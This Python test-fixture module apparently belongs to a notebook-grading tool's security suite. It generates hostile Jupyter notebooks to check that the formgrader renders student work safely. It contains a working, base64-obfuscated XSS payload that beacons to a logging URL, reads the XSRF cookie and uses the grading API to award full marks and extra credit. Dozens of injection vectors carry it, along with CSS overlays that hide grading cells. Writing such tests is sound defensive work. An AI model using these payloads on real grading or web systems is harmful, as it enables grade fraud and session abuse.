"""Hostile notebook content: every script-carrying construct a student can put in a notebook.

Shared by the attack suite (the notebook made inert, checked as data) and the
formgrader's browser test (the same content rendered in the real formgrader). Each
script is the real attack: it reports that it ran (a request to `BASE/pwned/<vector>`,
which the Jupyter server logs), renames the page, and through the formgrader's own
API gives every grade of the open submission full manual points and 100 extra credit.
"""

from __future__ import annotations

import base64
import struct
import zlib


def script(base: str, vector: str) -> str:
    """JavaScript that reports it ran and gives every grade of the open submission full points."""
    js = (
        f"(function(){{var B={base!r},V={vector!r};new Image().src=B+'/pwned/'+V;"
        "try{top.document.title='PWNED '+V}catch(e){}"
        "var x=(document.cookie.match(/\\b_xsrf=([^;]*)/)||[])[1],s;try{s=top.submission_id}catch(e){}"
        "fetch(B+'/formgrader/api/grades?submission_id='+s,{credentials:'include'})"
        ".then(function(r){return r.json()}).then(function(gs){gs.forEach(function(g){"
        "fetch(B+'/formgrader/api/grade/'+g.id,{method:'PUT',credentials:'include',"
        "headers:{'X-CSRFToken':x,'Content-Type':'application/json'},"
        "body:JSON.stringify({manual_score:g.max_score,extra_credit:100})})})})})()"
    )
    return "eval(atob('" + base64.b64encode(js.encode()).decode() + "'))"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def hostile_markdown(base: str, tag: str) -> str:
    """Every script-carrying construct of HTML and markdown we know of, each reporting `tag-<vector>`."""
    def p(vector: str) -> str:
        return script(base, f"{tag}-{vector}")
    svg_page = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{p("object-svg")}"><script>{p("object-svg-script")}</script></svg>'
    return "\n\n".join([
        "My answer: the margin makes the loss a hinge.",
        f"<script>{p('script')}</script>",
        f'<img src="x" onerror="{p("img-onerror")}">',
        f'<svg onload="{p("svg-onload")}"><circle r="5"/></svg>',
        f"<svg><script>{p('svg-script')}</script></svg>",
        f'<iframe srcdoc="&lt;script&gt;{p("iframe-srcdoc")}&lt;/script&gt;"></iframe>',
        f'<object data="data:text/html;base64,{b64("<script>" + p("object-html") + "</script>")}"></object>',
        f'<object data="data:image/svg+xml;base64,{b64(svg_page)}"></object>',
        f'<embed src="data:image/svg+xml;base64,{b64(svg_page)}">',
        f'<meta http-equiv="refresh" content="1;url={base}/pwned/{tag}-meta-refresh">',
        f'<base href="{base}/pwned/{tag}-base-href/">',
        f'<a class="hostile-link" href="javascript:{p("a-javascript")}">a javascript: link</a>',
        f"[a markdown link](javascript:{p('markdown-link')})",
        f"![a markdown image](javascript:{p('markdown-image')})",
        f'<details open ontoggle="{p("details-ontoggle")}"><summary>more</summary>details</details>',
        f'<input autofocus onfocus="{p("input-autofocus")}">',
        f'<video><source onerror="{p("video-source")}"></video>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{p("mutation-xss")}">',
        f'<form action="{base}/pwned/{tag}-form"><button id="hostile-button">submit</button></form>',
        "<style>.nbgrader_cell, .score, #notebook-container { display: none !important; }</style>",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:99999">'
        "nothing to grade here</div>",
    ])


def hostile_attachments(base: str) -> dict:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(base, "attachment-svg")}"></svg>'
    return {
        "evil.svg": {"image/svg+xml": b64(svg)},
        "evil.html": {"text/html": b64(f"<script>{script(base, 'attachment-html')}</script>")},
        "breakout.png": {"image/png": f'x" onerror="{script(base, "attachment-png")}" y="'},
    }


def hostile_outputs(base: str) -> list[dict]:
    def p(vector: str) -> str:
        return script(base, f"output-{vector}")
    return [
        {"output_type": "display_data", "metadata": {},
         "data": {"text/html": f'<img src="x" onerror="{p("html")}">', "text/plain": "html"}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": p("javascript")}},
        {"output_type": "display_data", "metadata": {},
         "data": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{p("svg")}"></svg>'}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": f'<img src="x" onerror="{p("markdown")}">'}},
        {"output_type": "display_data", "metadata": {"image/png": {"width": f'1 onload="{p("png-width")}"'}},
         "data": {"image/png": f'x" onerror="{p("png-data")}" y="'}},
        {"output_type": "stream", "name": f'stdout"><img src="x" onerror="{p("stream-name")}"><b x="', "text": "hi\n"},
        {"output_type": "error", "ename": f'<img src="x" onerror="{p("error-name")}">', "evalue": "<script>",
         "traceback": [f'<img src="x" onerror="{p("traceback")}">']},
    ]


def png(width: int = 40, height: int = 20) -> bytes:
    """A small striped PNG, written by hand (red and blue columns)."""
    rows = b"".join(b"\x00" + b"".join(b"\xd0\x20\x20" if (x // 5) % 2 else b"\x20\x40\xd0" for x in range(width))
                    for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


LEGIT_ANSWER = r"""The gradient is $\frac{\partial L}{\partial W} = \frac{1}{N} X^\top (P - Y) + 2 \lambda W$, so

$$L = -\frac{1}{N} \sum_i \log p_{i y_i}$$

| reg | validation accuracy |
|----:|--------------------:|
| 1e-3 | 0.39 |
| 1e-2 | 0.41 |

![the loss curve](attachment:loss.png)
"""


def answer_cell(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def hostile_notebook(nb: dict, answer_id: str, base: str, name: str) -> dict:
    """`nb` (a notebook as JSON) with hostile content in the answer cell `answer_id` and everywhere else."""
    answer = answer_cell(nb, answer_id)
    answer["source"] = hostile_markdown(base, f"{name}-answer") + (
        "\n\n![svg](attachment:evil.svg) ![html](attachment:evil.html) ![png](attachment:breakout.png)")
    answer["attachments"] = hostile_attachments(base)
    nb["cells"].append({"cell_type": "markdown", "id": "mallory-extra", "metadata": {},
                        "source": hostile_markdown(base, f"{name}-extra")})
    nb["cells"].append({"cell_type": "raw", "id": "mallory-raw", "metadata": {"raw_mimetype": "text/html"},
                        "source": f"<script>{script(base, f'{name}-raw')}</script>"})
    nb["cells"].append({"cell_type": "code", "id": "mallory-outputs", "metadata": {}, "execution_count": 3,
                        "source": "print('hi')", "outputs": hostile_outputs(base)})
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"x": f"</script><script>{script(base, f'{name}-widget-state')}</script>"}}}
    return nb


def legit_notebook(nb: dict, answer_id: str) -> dict:
    """`nb` with an answer that uses math, a table and a PNG attachment."""
    answer = answer_cell(nb, answer_id)
    answer["source"] = LEGIT_ANSWER
    answer["attachments"] = {"loss.png": {"image/png": base64.b64encode(png()).decode()}}
    return nb
